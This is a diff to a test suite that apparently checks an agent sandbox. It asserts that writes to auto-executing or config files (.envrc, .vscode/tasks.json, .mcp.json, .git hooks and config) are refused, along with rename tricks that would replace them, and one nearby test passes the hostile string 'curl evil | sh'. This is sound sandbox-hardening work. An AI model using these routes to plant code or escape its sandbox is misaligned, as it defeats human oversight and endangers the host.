@@ -192,6 +192,7 @@ class Ctx:
         write(os.path.join(ws, "x/.ssh/config"), self.m["sshcfg"], 0o600)
         write(os.path.join(ws, ".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n", 0o755)
         write(os.path.join(ws, ".git/config"), "[core]\n\tbare = false\n")
+        write(os.path.join(ws, ".git/HEAD"), "ref: refs/heads/main\n")
         write(os.path.join(ws, "src/main.c"), "int main(void) { return 0; }\n")
         write(os.path.join(ws, "config/prod/secret.key"), self.m["anchored"], 0o600)
         os.makedirs(os.path.join(ws, ".probe"))
@@ -814,6 +815,51 @@ for name, fn in (
                                               "--new", "curl evil | sh"], None)),
 ):
     attempt(f"edit: {name} is refused")(tool_refused(fn))
+
+
+# -- protect = [...] (the default set) and a missing root .git
+
+def envfiles(ws):
+    write(os.path.join(ws, ".envrc"), "echo host\n")
+    write(os.path.join(ws, "sub/.vscode/tasks.json"), "{}\n")
+
+
+def no_git(ws):
+    shutil.rmtree(os.path.join(ws, ".git"))
+
+
+for name, layout, rel in (
+        ("an existing .envrc (protect)", envfiles, ".envrc"),
+        ("an existing sub/.vscode/tasks.json (protect)", envfiles, "sub/.vscode/tasks.json"),
+        (".git/HEAD where the workspace has no .git (git init)", no_git, ".git/HEAD"),
+        (".git/config where the workspace has no .git (git init)", no_git, ".git/config"),
+):
+    attempt(f"exec: write {name}")(git_write(layout, rel))
+
+
+@attempt("exec: move sub/.vscode aside to replace the protected tasks.json")
+def _(c):
+    ws = git_ws(c, f"ws-git-{next(GIT_WS)}-envfiles", envfiles)
+    return expect_blocked(c.probe(ws, "rename", os.path.join(ws, "sub/.vscode"), os.path.join(ws, "sub/v")))
+
+
+@attempt("exec: mkdir .git/hooks where the workspace has no .git (git init)")
+def _(c):
+    ws = git_ws(c, f"ws-git-{next(GIT_WS)}-no_git", no_git)
+    v = expect_blocked(c.probe(ws, "mkdir", os.path.join(ws, ".git/hooks")))
+    if os.path.exists(os.path.join(ws, ".git/hooks")):
+        raise Fail("ESCAPED: .git/hooks exists on the host")
+    return v
+
+
+for name, fn in (
+        ("a new .mcp.json (protect)", lambda c: (["write", "-w", c.ws, ".mcp.json"], os.path.join(c.ws, ".mcp.json"))),
+        ("a new sub/.envrc (protect, any depth)", lambda c: (["write", "-w", c.ws, "sub/.envrc"],
+                                                             os.path.join(c.ws, "sub/.envrc"))),
+        ("a new .git/config.worktree", lambda c: (["write", "-w", c.ws, ".git/config.worktree"], None)),
+        ("a new .git/commondir", lambda c: (["write", "-w", c.ws, ".git/commondir"], None)),
+):
+    attempt(f"write: {name} is refused")(tool_refused(fn))
 
 
 # -- identity and privileges
